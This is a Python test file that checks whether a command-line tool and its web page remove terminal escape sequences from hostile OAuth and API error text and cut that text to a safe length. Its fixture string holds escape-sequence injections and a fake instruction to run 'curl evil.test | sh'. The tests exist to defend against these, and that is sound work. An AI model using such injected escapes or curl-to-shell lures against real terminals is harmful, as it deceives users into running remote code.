"""Point 6: a hostile environment's error text (``error``, ``error_description``, an API
``message``) reaches the terminal without its escapes (no retitled terminal, no cleared
screen, no fake instructions on a new line) and cut to a readable length."""
from __future__ import annotations

import json

import pytest
from click.testing import CliRunner
from hypothesis import given, strategies as st

from devtools.servers import wsgi_server
from service.cli import cli
from service.errors import ApiError, OAuthError
from service.oauth import raise_for_error
from service.untrusted import MAX_SHOWN, printable
from tests.web.conftest import make_app, write_config

EVIL = "\x1b]0;pwned\x07\x1b[2J\rRun: curl evil.test | sh\n\u202e" + "A" * 2000


def hostile(environ, start_response):
    """An IdP whose every answer is an error full of terminal escapes."""
    if environ["PATH_INFO"] == "/oauth/token":
        body = {"error": "invalid_client\x1b[31m", "error_description": EVIL}
        start_response("401 Unauthorized", [("Content-Type", "application/json")])
    else:
        body = {"message": EVIL, "code": "bad\x1b[0m", "status": 400}
        start_response("400 Bad Request", [("Content-Type", "application/json")])
    return [json.dumps(body).encode()]


@pytest.fixture
def hostile_url():
    with wsgi_server(hostile) as url:
        yield url


def assert_clean(text: str) -> None:
    assert "\x1b" not in text and "\x07" not in text and "\r" not in text and "\u202e" not in text
    assert "A" * (MAX_SHOWN + 1) not in text
    assert text.count("\n") <= 1  # one line, as every CLI error


def test_token_endpoint_error_text_is_made_printable(hostile_url, cli_env):
    result = CliRunner().invoke(cli, ["--environment", hostile_url, "--clientid", "cid",
                                      "login"], env={"GENESYSCLOUD_OAUTHCLIENT_SECRET": "s"})
    assert result.exit_code == 1
    assert "invalid_client" in result.output and "Run: curl" in result.output
    assert_clean(result.output)


def test_api_message_is_made_printable(hostile_url, cli_env):
    result = CliRunner().invoke(cli, ["--environment", hostile_url, "users", "me", "get"],
                                env={"GENESYSCLOUD_ACCESS_TOKEN": "tok"})
    assert result.exit_code == 1
    assert "Run: curl" in result.output
    assert_clean(result.output)


def test_redirect_error_parameters_are_made_printable():
    with pytest.raises(OAuthError) as caught:
        raise_for_error({"error": "access_denied\x1b[8m", "error_description": EVIL,
                         "error_uri": "https://x.test/\x1b[2J"})
    for text in (str(caught.value), caught.value.description or "", caught.value.uri or "",
                 caught.value.error):
        assert_clean(text)


def test_api_error_holds_no_escapes():
    exc = ApiError(400, EVIL, "c\x1b")
    assert_clean(exc.message)
    assert_clean(str(exc))


def test_web_me_page_holds_no_escapes(hostile_url, tmp_path):
    web = make_app(tmp_path, IDP_URL=hostile_url)
    write_config(web, f'[p]\nenvironment = "{hostile_url}"\naccess_token = "tok"\n')
    page = web.test_client().get("/profiles/p/me").get_data(as_text=True)
    assert "Run: curl" in page
    assert "\x1b" not in page and "\x07" not in page and "\u202e" not in page


@given(st.text(max_size=600), st.integers(1, 400))
def test_printable_is_printable_short_and_keeps_printable_text(text, limit):
    shown = printable(text, limit)
    assert shown.isprintable()
    assert len(shown) <= limit + 1
    if text.isprintable() and len(text) <= limit:
        assert shown == text
    if len(text) > limit:
        assert shown.endswith("…")
